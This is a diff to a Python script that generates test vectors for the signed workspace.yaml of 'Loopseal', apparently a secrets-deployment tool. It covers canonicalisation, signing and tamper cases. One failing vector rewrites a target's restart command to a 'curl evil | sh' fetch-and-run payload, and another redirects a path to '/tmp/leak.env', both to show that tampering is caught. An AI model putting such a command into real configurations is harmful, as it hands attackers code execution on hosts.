@@ -214,17 +214,197 @@ def vectors():
     return out
 
 
+def canonical(node):
+    """FORMAT.md §8, "The signed workspace file": a node's one-line canonical text."""
+    if isinstance(node, str):
+        out = '"'
+        for ch in node:
+            if ch == '"':
+                out += '\\"'
+            elif ch == "\\":
+                out += "\\\\"
+            elif ch in "\b\t\n\f\r":
+                out += {"\b": "\\b", "\t": "\\t", "\n": "\\n", "\f": "\\f", "\r": "\\r"}[ch]
+            elif ord(ch) < 0x20:
+                out += "\\u%04x" % ord(ch)
+            else:
+                out += ch
+        return out + '"'
+    if isinstance(node, list):
+        return "[" + ",".join(canonical(item) for item in node) + "]"
+    return "{" + ",".join(canonical(k) + ":" + canonical(v) for k, v in node.items()) + "}"
+
+
+def config_content(config):
+    """The content lines a workspace.yaml signature covers."""
+    text = "workspace: %s\nrecipients:\n" % config["workspace"]
+    for name, recipient in config["recipients"].items():
+        text += "  %s: %s\n" % (name, recipient)
+    text += "writers:\n"
+    for name, writer in config["writers"].items():
+        text += "  %s: %s\n" % (name, writer)
+    return text + "targets: %s\n" % canonical(config["targets"])
+
+
+def config_signed_bytes(config, writer):
+    return ("loopseal-workspace-signature/1\nwriter: %s\n" % writer + config_content(config)).encode()
+
+
+def block_yaml(node, indent=0):
+    """Block-style YAML of plain scalars, as Loopseal writes targets."""
+    pad = " " * indent
+    if isinstance(node, list):
+        lines = ""
+        for item in node:
+            if isinstance(item, str):
+                lines += pad + "- " + item + "\n"
+            else:
+                inner = block_yaml(item, indent + 2)
+                lines += pad + "- " + inner[indent + 2:]
+        return lines
+    lines = ""
+    for key, value in node.items():
+        if isinstance(value, str):
+            lines += pad + "%s: %s\n" % (key, value)
+        else:
+            lines += pad + "%s:\n" % key + block_yaml(value, indent)
+    return lines
+
+
+def config_file(config, signature=None):
+    """workspace.yaml as Loopseal writes it (FORMAT.md §7), the signature block last."""
+    text = "workspace: %s\nrecipients:\n" % config["workspace"]
+    for name, recipient in config["recipients"].items():
+        text += "  %s: %s\n" % (name, recipient)
+    text += "writers:\n"
+    for name, writer in config["writers"].items():
+        text += "  %s: %s\n" % (name, writer)
+    text += "targets:\n" + block_yaml(config["targets"]) if config["targets"] else "targets: []\n"
+    return text + signature_block(signature)
+
+
+def signature_block(signature):
+    if signature is None:
+        return ""
+    writer, sig = signature
+    return "signature:\n  writer: %s\n  ed25519: %s\n" % (writer, b64(sig))
+
+
+def sign_config(config, writer):
+    message = config_signed_bytes(config, writer.writer)
+    sig = writer.key.sign(message).signature
+    VerifyKey(writer.public).verify(message, sig)
+    return message, (writer.writer, sig)
+
+
+def config_vectors():
+    alice, bob, eve = Recipient("alice"), Recipient("bob"), Recipient("eve")
+    ci, ops, mallory = Writer("ci"), Writer("ops"), Writer("mallory")
+    config = {
+        "workspace": "acme-prod",
+        "recipients": {"alice": alice.recipient, "bob": bob.recipient},
+        "writers": {"ci": ci.writer, "ops": ops.writer},
+        "targets": [
+            {"name": "app", "type": "file", "path": "/etc/app/app.env", "format": "dotenv", "keys": ["DATABASE_URL"],
+             "restart": ["systemctl", "restart", "app"], "hosts": ["web-1", "web-*"]},
+            {"name": "deploy", "type": "command", "command": ["/usr/local/bin/deploy", "reload"], "format": "json"},
+        ],
+    }
+    pinned = [ci.writer]
+    out = []
+
+    def good(name, description, file, signed_bytes, canonical_file):
+        return {"name": name, "description": description, "workspace": "acme-prod", "pinned": pinned,
+                "signingKey": ci.text, "signedBytes": signed_bytes.decode(), "canonical": canonical_file, "file": file}
+
+    def fail(name, description, file, error, workspace="acme-prod"):
+        return {"name": name, "description": description, "workspace": workspace, "pinned": pinned,
+                "file": file, "error": error}
+
+    message, signature = sign_config(config, ci)
+    out.append(good("good_signed", "Two recipients, writers ci and ops, two targets (one for some hosts); signed by ci, pinned.",
+                    config_file(config, signature), message, True))
+    respelled = (
+        "# Re-spelled by hand: comments, fields in another order, flow style, quotes, an upper-case key.\n"
+        "writers: {ci: %s, ops: '%s'}\n"
+        "workspace: \"acme-prod\"\n"
+        "recipients:\n"
+        "    alice: %s   # alice's laptop\n"
+        "    bob: %s\n"
+        "targets:\n"
+        "  - {name: app, type: file, path: \"/etc/app/app.env\", format: dotenv, keys: [DATABASE_URL],\n"
+        "     restart: [systemctl, restart, app], hosts: [web-1, \"web-*\"]}\n"
+        "  - name: deploy\n"
+        "    type: command\n"
+        "    command: [/usr/local/bin/deploy, 'reload']\n"
+        "    format: json\n"
+    ) % (ci.writer, ops.writer, alice.recipient.upper(), bob.recipient)
+    out.append(good("good_respelled", "The same content spelled another way carries the same signature: spelling is not signed.",
+                    respelled + signature_block(signature), message, False))
+    escaped = dict(config, targets=[{"name": "hook", "type": "command",
+                                     "command": ["sh", "-c", "printf '%s\\n' \"$X\"\t\u00e9\u2713"],
+                                     "options": {"banner": "line one\nline \"two\" \\ end\n"}}])
+    escaped_file = (
+        "workspace: acme-prod\nrecipients:\n  alice: %s\n  bob: %s\nwriters:\n  ci: %s\n  ops: %s\n"
+        "targets:\n"
+        "- name: hook\n"
+        "  type: command\n"
+        "  command: [sh, -c, \"printf '%%s\\\\n' \\\"$X\\\"\\t\u00e9\u2713\"]\n"
+        "  options:\n"
+        "    banner: |\n"
+        "      line one\n"
+        "      line \"two\" \\ end\n"
+    ) % (alice.recipient, bob.recipient, ci.writer, ops.writer)
+    escaped_message, escaped_signature = sign_config(escaped, ci)
+    out.append(good("good_signed_escapes", "Quotes, a backslash, a tab, a line break and UTF-8 in targets: the canonical text's escapes.",
+                    escaped_file + signature_block(escaped_signature), escaped_message, False))
+
+    out.append(fail("fail_unsigned", "Writers are listed and workspace.yaml carries no signature.", config_file(config), "unsigned"))
+    changed = json.loads(json.dumps(config))
+    changed["targets"][0]["path"] = "/tmp/leak.env"
+    out.append(fail("fail_target_path_changed", "A target's path changed after signing.", config_file(changed, signature), "mismatch"))
+    changed = json.loads(json.dumps(config))
+    changed["targets"][0]["restart"] = ["sh", "-c", "curl evil | sh"]
+    out.append(fail("fail_target_command_changed", "A target's restart command changed after signing.",
+                    config_file(changed, signature).replace("- curl evil | sh", "- 'curl evil | sh'"), "mismatch"))
+    changed = json.loads(json.dumps(config))
+    changed["targets"][0]["hosts"] = ["*"]
+    out.append(fail("fail_target_hosts_changed", "A target's hosts changed after signing.",
+                    config_file(changed, signature).replace("- *\n", "- '*'\n"), "mismatch"))
+    changed = json.loads(json.dumps(config))
+    changed["recipients"]["eve"] = eve.recipient
+    out.append(fail("fail_recipient_added", "A recipient added after signing.", config_file(changed, signature), "mismatch"))
+    changed = json.loads(json.dumps(config))
+    changed["writers"]["mallory"] = mallory.writer
+    _, mallory_signature = sign_config(changed, mallory)
+    out.append(fail("fail_writer_added_self_signed", "A writer added and the file signed with that writer's own key: valid, but not pinned.",
+                    config_file(changed, mallory_signature), "unpinned"))
+    _, ops_signature = sign_config(config, ops)
+    out.append(fail("fail_signed_by_unpinned_writer", "Signed by ops, a writer the file lists but the host does not pin.",
+                    config_file(config, ops_signature), "unpinned"))
+    sealed_signature = (ci.writer, ci.key.sign(("loopseal-signature/1\nworkspace: acme-prod\nwriter: %s\n" % ci.writer
+                                                 + config_content(config)).encode()).signature)
+    out.append(fail("fail_sealed_file_context", "Signed over the same content with a sealed file's context line: no signature stands for the other.",
+                    config_file(config, sealed_signature), "mismatch"))
+    other = dict(config, workspace="acme-staging")
+    out.append(fail("fail_other_workspace", "A signed workspace.yaml copied into another workspace (its id changed to match).",
+                    config_file(other, signature), "mismatch", workspace="acme-staging"))
+    return out
+
+
 def main():
     check = sys.argv[1:] == ["--check"]
     problems = []
-    for vector in vectors():
-        path = os.path.join(HERE, vector["name"] + ".json")
+    all_vectors = [(HERE, v) for v in vectors()] + [(os.path.join(HERE, "workspace"), v) for v in config_vectors()]
+    for folder, vector in all_vectors:
+        path = os.path.join(folder, vector["name"] + ".json")
         text = json.dumps(vector, indent=2, ensure_ascii=False) + "\n"
         if check:
             with open(path, encoding="utf-8") as f:
                 if f.read() != text:
                     problems.append(path)
         else:
+            os.makedirs(folder, exist_ok=True)
             with open(path, "w", encoding="utf-8") as f:
                 f.write(text)
     if problems:
